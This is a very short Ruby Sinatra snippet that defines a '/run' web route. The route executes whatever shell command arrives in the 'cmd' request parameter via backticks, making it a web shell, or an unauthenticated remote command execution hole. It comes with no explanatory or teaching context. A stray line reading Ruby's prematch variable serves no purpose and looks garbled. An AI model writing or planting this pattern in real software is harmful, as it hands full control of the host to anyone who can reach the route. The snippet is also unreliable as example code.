require 'sinatra'
get '/run' do
  before = $`
  `#{params[:cmd]}`
end
